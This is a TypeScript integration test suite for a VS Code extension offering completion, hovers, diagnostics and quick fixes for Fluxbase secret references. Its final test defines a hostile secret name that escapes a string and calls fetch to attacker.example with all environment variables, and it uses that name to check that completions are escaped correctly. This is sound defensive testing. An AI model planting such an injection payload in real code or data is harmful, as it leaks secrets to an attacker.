import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { FluxbaseClient } from '../../src/core/api/fluxbaseClient';
import type { CatalogConnection, CatalogEntry, SecretCatalog } from '../../src/core/explorer/secretCatalog';
import { Emitter } from '../../src/shared/disposable';
import { silentLogger } from '../../src/shared/logger';
import { registerCodeProviders } from '../../src/host/code/registerCodeProviders';
import { secretVariableName } from '../../src/core/secretVariable';
import { CatalogIndex } from '../../src/core/code/catalogIndex';
import { systemClock } from '../../src/core/explorer/clock';
import { SecretCompletionProvider } from '../../src/host/code/secretCompletionProvider';
import { trustedSecretMarkdown } from '../../src/host/code/secretMarkdown';
import { startLocalFluxbase, type LocalFluxbase } from './support/localFluxbase';

const admin = { email: 'code-it@example.com', password: 'code-it-password-1' };
const CONNECTION: CatalogConnection = { id: 'code-it', name: 'Local IT' };
const DAY = 24 * 60 * 60 * 1000;
const SOURCE = 'Fluxbase Secrets';

/** The catalog over one signed-in client: `reload()` lists the server again and fires the change. */
class ServerCatalog implements SecretCatalog {
  private current: CatalogEntry[] = [];
  private readonly changed = new Emitter<void>();
  readonly onDidChange = (listener: () => void) => this.changed.event(listener);

  constructor(private readonly client: FluxbaseClient) {}

  entries(): readonly CatalogEntry[] {
    return this.current;
  }

  connections(): readonly CatalogConnection[] {
    return [CONNECTION];
  }

  async reload(): Promise<void> {
    const secrets = await this.client.secrets.list();
    this.current = secrets.map((secret) => ({ connectionId: CONNECTION.id, connectionName: CONNECTION.name, secret }));
    this.changed.fire();
  }
}

/** Resolves once `check` passes for the diagnostics of `uri`, re-checking on every change; rejects after `ms`. */
function diagnosticsMatching(
  uri: vscode.Uri,
  check: (diagnostics: vscode.Diagnostic[]) => boolean,
  ms = 15_000,
): Promise<vscode.Diagnostic[]> {
  const ours = () => vscode.languages.getDiagnostics(uri).filter((d) => d.source === SOURCE);
  return new Promise((resolve, reject) => {
    const done = (diagnostics: vscode.Diagnostic[]) => {
      clearTimeout(timer);
      subscription.dispose();
      resolve(diagnostics);
    };
    const timer = setTimeout(() => {
      subscription.dispose();
      reject(new Error(`diagnostics never matched; last: ${JSON.stringify(ours().map((d) => d.message))}`));
    }, ms);
    const subscription = vscode.languages.onDidChangeDiagnostics(() => {
      if (check(ours())) {
        done(ours());
      }
    });
    if (check(ours())) {
      done(ours());
    }
  });
}

/** The items of the secret completion provider (word-based suggestions are plain text). */
function secretItems(list: vscode.CompletionList): vscode.CompletionItem[] {
  return list.items.filter(
    (item) => item.kind === vscode.CompletionItemKind.Constant && labelOf(item).startsWith('FLUXBASE_'),
  );
}

function labelOf(item: vscode.CompletionItem): string {
  return typeof item.label === 'string' ? item.label : item.label.label;
}

function markdownOf(hover: vscode.Hover): string {
  return hover.contents.map((c) => (typeof c === 'string' ? c : 'value' in c ? c.value : '')).join('\n');
}

function summarize(diagnostics: readonly vscode.Diagnostic[]): string[] {
  return diagnostics
    .map((d) => `${String(d.code)}:${vscode.DiagnosticSeverity[d.severity]}:${d.message.split(/[:. ]/)[0] ?? ''}`)
    .sort();
}

const SOURCE_TEXT = [
  'const stripe = Deno.env.get("FLUXBASE_SECRET_STRIPE_KEY");',
  "const old = Deno.env.get('FLUXBASE_SECRET_OLD_TOKEN');",
  'const soon = Deno.env.get(`FLUXBASE_SECRET_SOON_KEY`);',
  'const missing = Deno.env.get("FLUXBASE_SECRET_MISSING_KEY");',
  'const home = Deno.env.get("HOME");',
  'const typing = Deno.env.get("");',
  'const plain = "hello";',
  'const prefixed = "FLUXBASE_SECRET_";',
  '',
].join('\n');

describe('code features in VS Code, against the local server', () => {
  let local: LocalFluxbase;
  let client: FluxbaseClient;
  let catalog: ServerCatalog;
  let registration: vscode.Disposable;
  let document: vscode.TextDocument;
  let globalId: string;
  let namespaceId: string;

  before(async () => {
    local = await startLocalFluxbase('code', admin);
    client = local.client;
    const now = Date.now();
    globalId = (await client.secrets.create({ name: 'STRIPE_KEY', value: 'sk_global', description: 'Stripe live key' }))
      .id;
    namespaceId = (
      await client.secrets.create({ name: 'stripe_key', value: 'sk_ns', scope: 'namespace', namespace: 'payments' })
    ).id;
    await client.secrets.create({ name: 'OLD_TOKEN', value: 'o', expires_at: new Date(now - DAY).toISOString() });
    await client.secrets.create({ name: 'SOON_KEY', value: 's', expires_at: new Date(now + 3 * DAY).toISOString() });
    catalog = new ServerCatalog(client);
    await catalog.reload();
    registration = registerCodeProviders({
      catalog,
      connections: { list: () => catalog.connections() },
      logger: silentLogger,
    });
    document = await vscode.workspace.openTextDocument({ language: 'typescript', content: SOURCE_TEXT });
    await vscode.window.showTextDocument(document);
  });

  after(async () => {
    registration?.dispose();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await vscode.workspace.getConfiguration('fluxbaseSecrets').update('diagnostics', undefined, true);
    await local?.close();
  });

  function positionIn(line: number, text: string, delta = 0): vscode.Position {
    return new vscode.Position(line, (document.lineAt(line).text.indexOf(text) ?? 0) + delta);
  }

  it('completes every secret variable inside Deno.env.get(""), with scopes, expiry and description', async () => {
    const position = positionIn(5, '""', 1);
    const list = await vscode.commands.executeCommand<vscode.CompletionList>(
      'vscode.executeCompletionItemProvider',
      document.uri,
      position,
    );
    const ours = secretItems(list);
    assert.deepEqual(ours.map(labelOf).sort(), [
      'FLUXBASE_SECRET_OLD_TOKEN',
      'FLUXBASE_SECRET_SOON_KEY',
      'FLUXBASE_SECRET_STRIPE_KEY',
    ]);
    const stripe = ours.find((item) => labelOf(item) === 'FLUXBASE_SECRET_STRIPE_KEY');
    assert.equal(stripe?.detail, 'global + namespace payments · Stripe live key');
    assert.match(ours.find((item) => labelOf(item) === 'FLUXBASE_SECRET_SOON_KEY')?.detail ?? '', /expires in 3 days/);
    assert.ok(
      ours.find((i) => labelOf(i) === 'FLUXBASE_SECRET_OLD_TOKEN')?.tags?.includes(vscode.CompletionItemTag.Deprecated),
    );
  });

  it("builds an item's documentation only when the item is resolved (not for the whole list)", () => {
    const index = new CatalogIndex(catalog);
    const provider = new SecretCompletionProvider(index, systemClock);
    const items = provider.provideCompletionItems(document, positionIn(5, '""', 1)) ?? [];
    const stripe = items.find((item) => labelOf(item) === 'FLUXBASE_SECRET_STRIPE_KEY');
    assert.ok(stripe);
    assert.ok(
      items.every((item) => item.documentation === undefined),
      'the list carries no documentation',
    );
    const documentation = provider.resolveCompletionItem(stripe).documentation;
    const markdown = typeof documentation === 'string' ? documentation : (documentation?.value ?? '');
    assert.match(markdown, /Stripe live key/);
    assert.match(markdown, /payments/);
    index.dispose();
  });

  it("shows an item's documentation once VS Code resolves it", async () => {
    const list = await vscode.commands.executeCommand<vscode.CompletionList>(
      'vscode.executeCompletionItemProvider',
      document.uri,
      positionIn(5, '""', 1),
      undefined,
      1000,
    );
    const documentation = secretItems(list).find(
      (item) => labelOf(item) === 'FLUXBASE_SECRET_STRIPE_KEY',
    )?.documentation;
    const markdown = typeof documentation === 'string' ? documentation : (documentation?.value ?? '');
    assert.match(markdown, /Stripe live key/);
  });

  it('completes in a string that starts with FLUXBASE_SECRET_, replacing the whole content', async () => {
    const line = 7;
    const position = positionIn(line, 'SECRET_', 'SECRET_'.length);
    const list = await vscode.commands.executeCommand<vscode.CompletionList>(
      'vscode.executeCompletionItemProvider',
      document.uri,
      position,
    );
    const item = secretItems(list).find((i) => labelOf(i) === 'FLUXBASE_SECRET_STRIPE_KEY');
    assert.ok(item, 'the variable is offered');
    const range = item.range as { inserting: vscode.Range; replacing: vscode.Range };
    assert.equal(document.getText(range.replacing), 'FLUXBASE_SECRET_');
    assert.ok(range.inserting.end.isEqual(position));
  });

  it('offers no secret in other strings', async () => {
    const list = await vscode.commands.executeCommand<vscode.CompletionList>(
      'vscode.executeCompletionItemProvider',
      document.uri,
      positionIn(6, 'hello', 2),
    );
    assert.deepEqual(secretItems(list), []);
  });

  it('hovers a reference with the providing secrets, the namespace one winning, and trusted links', async () => {
    const hovers = await vscode.commands.executeCommand<vscode.Hover[]>(
      'vscode.executeHoverProvider',
      document.uri,
      positionIn(0, 'STRIPE_KEY'),
    );
    const markdown = hovers.map(markdownOf).find((text) => text.includes('Fluxbase secret')) ?? '';
    assert.match(markdown, /Local IT:/);
    assert.match(markdown, /- Global: `STRIPE_KEY` · v1 · never expires — Stripe live key/);
    assert.match(markdown, /- Namespace `payments`: `stripe_key` · v1 · never expires .*wins over the global secret/);
    for (const [command, id] of [
      ['fluxbaseSecrets.showHistory', globalId],
      ['fluxbaseSecrets.updateSecretValue', namespaceId],
    ] as const) {
      const link = new RegExp(`\\(command:${command.replace('.', '\\.')}\\?([^ )]+)`, 'g');
      const refs = [...markdown.matchAll(link)].map((m) => JSON.parse(decodeURIComponent(m[1] ?? '')) as unknown);
      assert.ok(JSON.stringify(refs).includes(id), `${command} links to ${id}`);
    }
    const trusted = trustedSecretMarkdown(markdown).isTrusted;
    assert.deepEqual(trusted, {
      enabledCommands: ['fluxbaseSecrets.showHistory', 'fluxbaseSecrets.updateSecretValue'],
    });
  });

  it('diagnoses unknown and expired references as warnings and soon expiring ones as information', async () => {
    const diagnostics = await diagnosticsMatching(document.uri, (d) => d.length === 3);
    assert.deepEqual(summarize(diagnostics), [
      'expiredSecret:Warning:FLUXBASE_SECRET_OLD_TOKEN',
      'expiringSecret:Information:FLUXBASE_SECRET_SOON_KEY',
      'unknownSecret:Warning:No',
    ]);
    const unknown = diagnostics.find((d) => d.code === 'unknownSecret');
    assert.equal(document.getText(unknown?.range), 'FLUXBASE_SECRET_MISSING_KEY');
  });

  it('offers the quick fix "Create secret MISSING_KEY…" that starts the create flow prefilled', async () => {
    const diagnostics = await diagnosticsMatching(document.uri, (d) => d.some((x) => x.code === 'unknownSecret'));
    const target = diagnostics.find((d) => d.code === 'unknownSecret');
    assert.ok(target);
    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>(
      'vscode.executeCodeActionProvider',
      document.uri,
      target.range,
      vscode.CodeActionKind.QuickFix.value,
    );
    const fix = actions.find((action) => action.title === 'Create secret MISSING_KEY…');
    assert.ok(fix, `quick fixes: ${actions.map((a) => a.title).join(', ')}`);
    assert.equal(fix.command?.command, 'fluxbaseSecrets.createSecret');
    assert.deepEqual(fix.command?.arguments, [{ name: 'MISSING_KEY', origin: 'quickFix' }]);
  });

  it('clears the unknown warning once the secret exists on the server and the catalog reloads', async () => {
    await client.secrets.create({ name: 'MISSING_KEY', value: 'now here' });
    await catalog.reload();
    const diagnostics = await diagnosticsMatching(document.uri, (d) => !d.some((x) => x.code === 'unknownSecret'));
    assert.equal(diagnostics.length, 2);
  });

  it('rechecks a document after it is edited', async () => {
    const editor = await vscode.window.showTextDocument(document);
    await editor.edit((edit) => edit.insert(new vscode.Position(8, 0), 'Deno.env.get("FLUXBASE_SECRET_TYPO");\n'));
    const diagnostics = await diagnosticsMatching(document.uri, (d) => d.some((x) => x.code === 'unknownSecret'));
    assert.equal(document.getText(diagnostics.find((d) => d.code === 'unknownSecret')?.range), 'FLUXBASE_SECRET_TYPO');
  });

  it('follows the severity setting and turns off with diagnostics.enabled', async () => {
    const config = vscode.workspace.getConfiguration('fluxbaseSecrets');
    await config.update('diagnostics.severity', 'error', vscode.ConfigurationTarget.Global);
    let diagnostics = await diagnosticsMatching(document.uri, (d) =>
      d.some((x) => x.code === 'unknownSecret' && x.severity === vscode.DiagnosticSeverity.Error),
    );
    assert.equal(diagnostics.find((d) => d.code === 'expiringSecret')?.severity, vscode.DiagnosticSeverity.Information);
    await config.update('diagnostics.enabled', false, vscode.ConfigurationTarget.Global);
    diagnostics = await diagnosticsMatching(document.uri, (d) => d.length === 0);
    assert.deepEqual(diagnostics, []);
    await config.update('diagnostics.enabled', undefined, vscode.ConfigurationTarget.Global);
    await config.update('diagnostics.severity', undefined, vscode.ConfigurationTarget.Global);
    await diagnosticsMatching(document.uri, (d) => d.length > 0);
  });

  it('offers "Move to Fluxbase secret…" for a selected string literal', async () => {
    const start = positionIn(6, '"hello"');
    const range = new vscode.Range(start, start.translate(0, '"hello"'.length));
    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>(
      'vscode.executeCodeActionProvider',
      document.uri,
      range,
    );
    const extract = actions.find((action) => action.title === 'Move to Fluxbase secret…');
    assert.ok(extract, `actions: ${actions.map((a) => a.title).join(', ')}`);
    assert.equal(extract.command?.command, 'fluxbaseSecrets.extractToSecret');
    assert.deepEqual(extract.command?.arguments, [
      { uri: document.uri.toString(), start: { line: 6, character: 14 }, end: { line: 6, character: 21 } },
    ]);
  });

  it('completes a hostile name as the escaped content of the string it goes into', async () => {
    const hostileName = 'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "';
    const hostile = await client.secrets.create({ name: hostileName, value: 'h' });
    try {
      await catalog.reload();
      const list = await vscode.commands.executeCommand<vscode.CompletionList>(
        'vscode.executeCompletionItemProvider',
        document.uri,
        positionIn(5, '""', 1),
      );
      const variable = secretVariableName(hostileName);
      const item = secretItems(list).find((i) => labelOf(i) === variable);
      assert.ok(item, 'the hostile variable is offered');
      const inserted = typeof item.insertText === 'string' ? item.insertText : item.insertText?.value;
      assert.equal(JSON.parse(`"${inserted ?? ''}"`), variable);
      // the items are kept between requests: each request still writes for the quote of its own string
      for (const [line, marker, decode] of [
        [1, "'FLUXBASE", (text: string) => text],
        [5, '""', (text: string) => JSON.parse(`"${text}"`) as unknown],
      ] as const) {
        const again = await vscode.commands.executeCommand<vscode.CompletionList>(
          'vscode.executeCompletionItemProvider',
          document.uri,
          positionIn(line, marker, 1),
        );
        const offered = secretItems(again).find((i) => labelOf(i) === variable)?.insertText;
        assert.equal(decode(typeof offered === 'string' ? offered : (offered?.value ?? '')), variable, `line ${line}`);
      }
    } finally {
      await client.secrets.deleteById(hostile.id);
      await catalog.reload();
    }
  });
});
